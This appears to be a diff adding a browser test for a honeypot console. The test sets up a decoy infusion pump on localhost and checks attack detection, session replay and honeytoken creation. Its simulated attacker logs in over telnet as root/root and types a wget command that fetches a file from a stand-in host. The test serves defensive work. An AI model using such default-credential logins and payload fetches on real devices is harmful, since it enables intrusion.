@@ -1,0 +1,82 @@
+import { connect } from 'node:net';
+import { join } from 'node:path';
+import { setTimeout as pause } from 'node:timers/promises';
+import { describe, expect, it } from 'vitest';
+import { freePort } from '../probing/lab.ts';
+import { accessibilityViolations } from './accessibility.ts';
+import { consoleOfThisFile, follow } from './console-user.ts';
+
+const PICTURES = process.env.SPHINX_TEST_SCREENSHOTS;
+const { console, page } = await consoleOfThisFile();
+
+async function picture(name: string): Promise<void> {
+  if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true });
+}
+
+/** Somebody types into the maintenance shell, key by key. */
+async function visit(port: number): Promise<void> {
+  const socket = connect(port, '127.0.0.1');
+  socket.resume();
+  for (const line of ['root', 'root', 'wget http://203.0.113.5/x', 'exit']) {
+    for (const key of `${line}\r`) {
+      socket.write(key);
+      await pause(10 + key.charCodeAt(0));
+    }
+    await pause(200);
+  }
+  await new Promise((done) => socket.on('close', done));
+}
+
+describe('decoys, in a real browser', () => {
+  let offset = 0;
+
+  it('are off until somebody switches them on, and are set up on an address', async () => {
+    await follow(page, '/decoys');
+    await page.getByRole('heading', { name: 'Decoys is off' }).waitFor();
+    await follow(page, '/toolbox');
+    await page.getByRole('switch', { name: 'Decoys is on' }).click({ force: true });
+    await follow(page, '/decoys');
+    await page.getByRole('heading', { name: 'No decoy stands in the network' }).waitFor();
+    offset = (await freePort()) - 80;
+    await page.getByRole('combobox', { name: 'Pretends to be' }).click();
+    await page.getByRole('option', { name: 'Infusion pump' }).click();
+    await page.getByRole('textbox', { name: 'Addresses' }).fill('127.0.0.1');
+    await page.getByRole('textbox', { name: 'Added to ports' }).fill(String(offset));
+    await page.getByRole('button', { name: 'Set up' }).click();
+    await page.getByRole('row', { name: /Infusion pump.*Listening/ }).waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('decoys');
+  });
+
+  it('show who came while it happens, why that is thought, and the terminal again', async () => {
+    await page.getByRole('tab', { name: 'Who came' }).click();
+    await visit(23 + offset);
+    const row = page.getByRole('row', { name: /127\.0\.0\.1.*A program that attacks.*critical/ });
+    await row.waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('decoy-sessions');
+    await row.getByRole('button', { name: /Look at the visit/ }).click();
+    await page.getByText('told to fetch http://203.0.113.5/x; it was not').waitFor();
+    await page.getByRole('button', { name: 'Play' }).click();
+    await page.getByRole('log').getByText('Connecting to 203.0.113.5:80').waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('decoy-session');
+    await page.keyboard.press('Escape');
+  });
+
+  it('list passwords that were tried, and values to plant', async () => {
+    await follow(page, '/decoys?view=credentials');
+    await page.getByRole('row', { name: /root.*root.*telnet/ }).waitFor();
+    await page.getByRole('tab', { name: 'Honeytokens' }).click();
+    await page.getByRole('textbox', { name: 'Where it is planted' }).fill('notes of IT');
+    await page.getByRole('button', { name: 'Make' }).click();
+    const row = page.getByRole('row', { name: /Account.*notes of IT/ });
+    await row.getByText(/^password: /).waitFor();
+    expect(await accessibilityViolations(page)).toEqual([]);
+    await picture('honeytokens');
+    await row.getByRole('button', { name: 'Revoke' }).click();
+    await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click();
+    await row.getByText('revoked').waitFor();
+    expect(console.faults).toEqual([]);
+  });
+});
